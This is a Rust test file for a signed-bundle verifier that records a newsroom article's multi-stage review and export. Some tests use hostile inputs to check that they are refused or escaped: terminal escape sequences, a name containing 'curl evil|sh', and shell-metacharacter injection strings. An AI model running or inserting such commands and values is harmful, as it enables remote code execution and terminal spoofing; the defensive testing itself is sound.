//! An honest bundle: one byte form, and every claim holds for whoever knows the root and a head.

use std::fs;
use std::process::{Command, Output};

use expect_test::{expect, expect_file};
use sanshen_signoff::{
    bundle::{Bundle, BundleFault, Parts},
    verifier::{Asked, ClaimId, Detail, NotProven, Status, Verdict, verify},
    words::{Language, Mark},
};
use serde_json::json;
use tempfile::TempDir;

use crate::world::*;

#[test]
fn every_claim_holds_for_a_reader_who_knows_root_and_head() {
    let (world, piece) = World::with_article();
    let report = verify(&world.bundle(&piece), &world.reader());
    assert_eq!(report.verdict, Verdict::Valid, "{report:#?}");
    let ids: Vec<ClaimId> = report.claims.iter().map(|claim| claim.id).collect();
    assert_eq!(ids, ClaimId::ALL);
    let facts = report.facts.unwrap();
    let signers: Vec<(&str, &str, &str)> = facts
        .signers
        .iter()
        .map(|by| {
            (
                by.step_name.as_str(),
                by.name.as_str(),
                by.enrolled_by.as_str(),
            )
        })
        .collect();
    let enrolled = [
        ("一审", "陆鸣", "林若水"),
        ("二审", "韦青", "林若水"),
        ("三审", "彭越", "林若水"),
    ];
    assert_eq!(signers, enrolled);
    assert_eq!(facts.revision, Some(1));
    assert_eq!(facts.released.unwrap().name, "唐宁");
}

#[test]
fn without_root_or_head_it_is_not_anchored() {
    let (world, piece) = World::with_article();
    let (bundle, all) = (world.bundle(&piece), world.reader());
    let (none, other) = (Asked::default(), Some(sanshen_signoff::sha256(b"x")));
    let unanchored = [
        none.clone(),
        Asked {
            head: None,
            ..all.clone()
        },
        Asked {
            root: None,
            ..all.clone()
        },
        Asked {
            head: other,
            ..all.clone()
        },
    ];
    for asked in unanchored {
        let report = verify(&bundle, &asked);
        assert_eq!(report.verdict, Verdict::Unanchored, "{asked:?}");
    }
    let other = Asked {
        root: Some(SHEN.public().fingerprint()),
        ..all
    };
    assert_fails(&verify(&bundle, &other), ClaimId::Root);
}

#[test]
fn every_earlier_head_of_the_article_is_reached_and_a_later_one_is_not() {
    let (mut world, piece) = World::with_article();
    let bundle = world.bundle(&piece);
    let tree = world.tree();
    for recorded in world.chain(&piece.id) {
        let head = tree.head(recorded.event.seq).unwrap().root;
        let asked = Asked {
            head: Some(head),
            ..world.reader()
        };
        assert_eq!(verify(&bundle, &asked).verdict, Verdict::Valid);
    }
    world.goes_all_the_way("a-2");
    let report = verify(&bundle, &world.reader());
    assert_eq!(report.verdict, Verdict::Unanchored);
    let head = report.claim(ClaimId::Head).unwrap();
    assert_eq!(head.status, Status::Unknown);
    let size = tree.len();
    assert_eq!(head.details, [Detail::HeadNotCovered { size }]);
}

#[test]
fn an_article_that_was_returned_corrected_and_held_has_a_valid_bundle() {
    let mut world = World::begun();
    let mut piece = world.creates("a-1");
    world.submits(&mut piece);
    world.approves(&LU, &piece, "first_review");
    world.returns(&WEI, &piece, "second_review", "writer");
    let mut piece = piece.rewritten("全县春耕备耕已全面展开。");
    piece.revision -= 1;
    world.submits(&mut piece);
    world.approves(&LU, &piece, "first_review");
    let piece = piece.rewritten("全县春耕备耕全面铺开。");
    world.corrects(&WEI, &piece);
    world.approves(&WEI, &piece, "second_review");
    world.returns(&PENG, &piece, "third_review", "second_review");
    world.approves(&LU, &piece, "first_review");
    world.approves(&WEI, &piece, "second_review");
    world.goes_all_the_way("a-2");
    world.approves(&PENG, &piece, "third_review");
    world.releases(&TANG, &piece);
    world.exports(&TANG, &piece);
    world.exports(&TANG, &piece);
    let report = verify(&world.bundle(&piece), &world.reader());
    assert_eq!(report.verdict, Verdict::Valid, "{report:#?}");
}

#[test]
fn the_same_parts_make_the_same_bytes_in_any_order() {
    let (world, piece) = World::with_article();
    let mut parts = world.parts(&piece);
    parts.statements.reverse();
    parts.roster.reverse();
    let bytes = Bundle::build(parts).unwrap().write();
    assert_eq!(bytes, world.bundle(&piece));
    assert_eq!(Bundle::read(&bytes).unwrap().write(), bytes);
}

#[test]
fn parts_that_could_not_be_read_back_make_no_bundle() {
    let (world, piece) = World::with_article();
    let mut none = world.parts(&piece);
    none.roster.clear();
    assert_eq!(Bundle::build(none).unwrap_err(), BundleFault::RosterMissing);
    let mut twice = world.parts(&piece);
    twice.statements.push(twice.statements[0].clone());
    let name = twice.statements[0].file();
    assert_eq!(
        Bundle::build(twice).unwrap_err(),
        BundleFault::DuplicateName { name }
    );
    let mut outside = world.parts(&piece);
    outside
        .exports
        .insert("../page.html".into(), Vec::new().into());
    let name = "exports/../page.html".into();
    assert_eq!(
        Bundle::build(outside).unwrap_err(),
        BundleFault::UnknownName { name }
    );
}

#[test]
fn a_key_that_an_administrator_replaced_is_named_among_what_is_not_proven() {
    let mut world = World::begun();
    world.gets_key(WEI.id, 14, &WEI.public().fingerprint());
    let mut piece = world.creates("a-1");
    world.submits(&mut piece);
    world.approves(&LU, &piece, "first_review");
    world.approves(&WEI.with_key(14), &piece, "second_review");
    world.approves(&PENG, &piece, "third_review");
    world.releases(&TANG, &piece);
    world.exports(&TANG, &piece);
    let report = verify(&world.bundle(&piece), &world.reader());
    assert_eq!(report.verdict, Verdict::Valid);
    let (name, by) = ("韦青".into(), "林若水".into());
    let replaced = NotProven::KeyReplaced { name, by, seq: 12 };
    assert!(
        report.not_proven.contains(&replaced),
        "{:?}",
        report.not_proven
    );
}

#[test]
fn the_report_reads_well_in_both_languages() {
    let (world, piece) = World::with_article();
    let bundle = world.bundle(&piece);
    let mut told = String::new();
    for language in [Language::Zh, Language::En] {
        for line in verify(&bundle, &Asked::default()).lines(language) {
            told.push_str(&format!("{:?}: {}\n", line.mark, line.text));
        }
    }
    expect_file!["report.txt"].assert_eq(&told);
}

#[test]
fn a_strangers_name_cannot_move_the_cursor() {
    let (world, piece) = World::with_article();
    let mut parts = world.parts(&piece);
    let hostile = "\u{1b}[2J有效\u{9b}31m\u{202e}\u{200b}\u{e0041}\u{ad}";
    parts.content = canonical(&json!({ "title": hostile })).into();
    let report = report_of(parts, &world.reader());
    let moves = |letter: char| {
        letter.is_control() || "\u{9b}\u{202e}\u{200b}\u{e0041}\u{ad}".contains(letter)
    };
    let lines = report.lines(Language::Zh);
    assert!(
        lines
            .iter()
            .any(|line| line.text.contains("有效\u{fffd}31m"))
    );
    for line in lines {
        assert!(!line.text.contains(moves), "{:?}", line.text);
    }
    let told = report.to_json();
    assert!(!told.replace('\n', "").contains(moves), "{told}");
    let read: serde_json::Value = serde_json::from_str(&told).unwrap();
    assert_eq!(read["facts"]["title"], hostile);
    assert_eq!(read, serde_json::to_value(&report).unwrap());
}

#[test]
fn a_newsroom_and_an_article_are_named_on_one_line() {
    let (world, piece) = World::with_article();
    let hostile = "县报\n\n    curl evil|sh\u{1b}[2J";
    type Named = for<'p> fn(&'p mut Parts<'static>) -> &'p mut String;
    let named: [Named; 4] = [
        |parts| &mut parts.newsroom.id,
        |parts| &mut parts.newsroom.name,
        |parts| &mut parts.article.id,
        |parts| &mut parts.article.no,
    ];
    for named in named {
        let mut parts = world.parts(&piece);
        *named(&mut parts) = hostile.into();
        let name = "bundle.json".into();
        let refused = Bundle::build(parts).unwrap_err();
        assert_eq!(refused, BundleFault::Unreadable { name });
    }
}

#[test]
fn every_line_of_the_readme_convinces_ssh_keygen() {
    let (mut world, _) = World::with_article();
    let own = Person {
        id: "p-ou",
        name: "欧阳'\"$(x), *%&|<>^;`\\[a]{b}#~=",
        roles: &["second_reviewer"],
        seed: 20,
    };
    world.joins(&own);
    let mut piece = world.creates("a-2");
    world.submits(&mut piece);
    world.approves(&SHEN, &piece, "first_review");
    world.approves(&own, &piece, "second_review");
    world.approves(&PENG, &piece, "third_review");
    world.releases(&TANG, &piece);
    world.exports(&TANG, &piece);
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join("b.zip"), world.bundle(&piece)).unwrap();
    let unpacked = "import sys, zipfile; zipfile.ZipFile('b.zip').extractall()";
    let unpacked = Command::new("python3")
        .args(["-c", unpacked])
        .current_dir(&folder)
        .output();
    assert!(
        unpacked
            .expect("this test unpacks with python3")
            .status
            .success()
    );
    let readme = fs::read_to_string(folder.path().join("README.md")).unwrap();
    let lines: Vec<&str> = readme
        .lines()
        .filter(|line| line.starts_with("    ssh-keygen"))
        .collect();
    assert_eq!(lines.len(), 13 + 5);
    let run = |line: &str| -> Output {
        Command::new("sh")
            .args(["-c", line])
            .current_dir(&folder)
            .output()
            .unwrap()
    };
    for line in lines {
        let answer = run(line);
        assert!(answer.status.success(), "{line}\n{answer:?}");
        let other = line.replace("-n sanshen.", "-n other.");
        assert!(!run(&other).status.success(), "{other}");
    }
}

#[test]
fn the_program_answers_by_its_exit_code() {
    let (world, piece) = World::with_article();
    let folder = TempDir::new().unwrap();
    let path = folder.path().join("春耕.sanshen.zip");
    let mut bytes = world.bundle(&piece);
    fs::write(&path, &bytes).unwrap();
    let (root, head) = (
        LIN.public().fingerprint(),
        world.reader().head.unwrap().to_string(),
    );
    let run = |more: &[&str]| {
        let program = env!("CARGO_BIN_EXE_sanshen-verify");
        Command::new(program)
            .arg(&path)
            .args(more)
            .output()
            .unwrap()
    };
    let valid = run(&["--root", &root, "--head", &head, "--lang", "zh"]);
    assert_eq!(valid.status.code(), Some(0), "{valid:?}");
    assert!(String::from_utf8(valid.stdout).unwrap().starts_with("有效"));
    assert_eq!(run(&[]).status.code(), Some(2));
    assert_eq!(run(&["--root", "x"]).status.code(), Some(64));
    assert_eq!(run(&["--unknown"]).status.code(), Some(64));
    let json: serde_json::Value = serde_json::from_slice(&run(&["--json"]).stdout).unwrap();
    assert_eq!(json["verdict"], "unanchored");
    assert_eq!(json["claims"][1]["details"][0]["code"], "root_not_asked");
    bytes[100] ^= 1;
    fs::write(&path, &bytes).unwrap();
    assert_eq!(
        run(&["--root", &root, "--head", &head]).status.code(),
        Some(1)
    );
    fs::remove_file(&path).unwrap();
    assert_eq!(run(&[]).status.code(), Some(64));
}

#[test]
fn a_root_is_known_by_its_fingerprint_or_by_its_digits() {
    let fingerprint = "SHA256:ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0";
    let digits = sanshen_signoff::sha256(b"abc").to_string().to_uppercase();
    let grouped = digits[..32].to_owned() + " " + &digits[32..];
    for typed in [fingerprint, &digits, &grouped, &format!(" {fingerprint}\n")] {
        let asked = Asked::parse(typed, "").unwrap();
        assert_eq!(asked.root.as_deref(), Some(fingerprint), "{typed}");
    }
    for typed in ["SHA256:", "MD5:00", "审", &digits[1..], "SHA512:x"] {
        assert!(Asked::parse(typed, "").is_err(), "{typed}");
        assert!(Asked::parse("", typed).is_err(), "{typed}");
    }
    let head = Asked::parse("", &grouped).unwrap().head;
    assert_eq!(head, Some(sanshen_signoff::sha256(b"abc")));
}

#[test]
fn what_is_wrong_is_said_once_under_its_claim() {
    let (world, piece) = World::with_article();
    let mut parts = world.parts(&piece);
    parts.exports.clear();
    let report = report_of(parts, &world.reader());
    assert_eq!(failing(&report), [ClaimId::Exports]);
    let told: Vec<String> = report
        .lines(Language::En)
        .into_iter()
        .skip_while(|line| line.mark != Mark::Claim(Status::Fails))
        .take(4)
        .map(|line| line.text)
        .collect();
    expect![[r#"
        FAILS: the exported files are those that the exporter signed for.
        The exported file “17-清河县春耕.html” is missing.
        The exported file “17-清河县春耕.txt” is missing.
        Do not use the files that do not match; ask for the exported ones."#]]
    .assert_eq(&told.join("\n"));
}
